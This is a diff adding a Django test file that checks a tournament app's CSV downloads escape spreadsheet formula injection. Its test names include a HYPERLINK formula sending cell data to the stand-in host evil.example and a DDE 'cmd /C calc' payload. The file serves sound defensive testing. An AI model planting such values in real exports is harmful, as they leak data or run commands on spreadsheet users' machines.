@@ -1,0 +1,122 @@
+"""CSV downloads never write a cell a spreadsheet program runs as a formula (issue 11: a name
+``=HYPERLINK(...)`` imported from a CSV came out live in every standings CSV). Text that starts
+with =, +, -, @, a tab or a carriage return is written behind an apostrophe; numbers (-18 points)
+stay numbers; the import keeps names as given."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.test import Client
+
+from games.models import Player, Table
+from tests.games.factories import UserFactory
+from tests.tournaments.factories import EventFactory
+from tournaments.exports import FORMULA_STARTS, csv_download, spreadsheet_cell
+from tournaments.models import Team, Unit
+from tournaments.results import result_confirm, result_submit
+from tournaments.services import (
+    event_import,
+    event_organizer_add,
+    round_create_paired,
+    round_start,
+)
+
+pytestmark = pytest.mark.django_db
+
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+NAMES = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]
+
+
+@pytest.mark.parametrize("text", NAMES)
+def test_formula_text_is_written_behind_an_apostrophe(text: str) -> None:
+    assert spreadsheet_cell(text) == "'" + text
+    assert text.startswith(FORMULA_STARTS)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [-18, 18, 0, -0.5, 2.75, Decimal("-3.5"), "-18", "+3", "-1.5e3", "张伟", "a=b", "研发-1"],
+)
+def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
+    assert spreadsheet_cell(value) == value
+    assert spreadsheet_cell(None) == ""
+
+
+def test_csv_download_escapes_every_text_cell_and_keeps_numbers() -> None:
+    response = csv_download("x.csv", ["name", "=head"], [[LINK, -18], ["张伟", "-18"]])
+    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows == [["name", "'=head"], ["'" + LINK, "-18"], ["张伟", "-18"]]
+
+
+@pytest.fixture
+def played():
+    """An offline event imported from a CSV of formula names; one result confirmed: side A's team
+    +18, side B's team -18."""
+    event = EventFactory(table_mode=Table.Mode.OFFLINE)
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(["姓名", "部门", "队伍"])
+    writer.writerows([n, "@单位", "=队伍A"] for n in NAMES[:3])
+    writer.writerows([n.strip(), "-单位", "+队伍B"] for n in NAMES[3:])
+    content = buffer.getvalue().encode()
+    event_import(event=event, filename="players.csv", content=content)
+    referee, checker = UserFactory(), UserFactory()
+    event_organizer_add(event=event, user=referee)
+    event_organizer_add(event=event, user=checker)
+    round_ = round_create_paired(event=event, confirm=True)
+    round_start(round=round_)
+    submission = result_submit(
+        pairing=round_.pairings.get(),
+        user=referee,
+        first_dealer=0,
+        deals=[{"finish": [0, 2, 4]}],
+    )
+    result_confirm(submission=submission, user=checker)
+    return event
+
+
+def _csv(url: str) -> list[dict[str, str]]:
+    response = Client().get(url)
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_the_import_keeps_names_as_given(played) -> None:
+    assert set(Player.objects.values_list("name", flat=True)) == {
+        *NAMES[:3],
+        *(n.strip() for n in NAMES[3:]),
+    }
+    assert set(Team.objects.values_list("name", flat=True)) == {"=队伍A", "+队伍B"}
+    assert set(Unit.objects.values_list("name", flat=True)) == {"@单位", "-单位"}
+
+
+@pytest.mark.parametrize(
+    "prefix", ["/api/v1/events/{pk}/standings.csv", "/events/{pk}/standings.csv"]
+)
+def test_standings_csv_escapes_names_and_keeps_negative_points(played, prefix: str) -> None:
+    url = prefix.format(pk=played.pk)
+    teams = _csv(url + "?kind=team")
+    assert {r["team"] for r in teams} == {"'=队伍A", "'+队伍B"}
+    assert {r["unit"] for r in teams} == {"'@单位", "'-单位"}
+    assert sorted(int(r["points"]) for r in teams) == [-18, 18]  # numbers, no apostrophe
+    players = _csv(url + "?kind=player")
+    names = {r["player"] for r in players}
+    assert "'" + LINK in names and LINK not in names
+    assert all(n.startswith("'") for n in names)
+    assert sorted(int(r["points"]) for r in players) == [-6, -6, -6, 6, 6, 6]
+    for row in teams + players:
+        for key, cell in row.items():
+            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit(), (key, cell)
+
+
+def test_meet_csv_escapes_unit_names(played) -> None:
+    rows = _csv(f"/meets/{played.meet.slug}/standings.csv")
+    assert {r["unit"] for r in rows} == {"'@单位", "'-单位"}
+    assert all(float(r["points"]) >= 0 for r in rows)
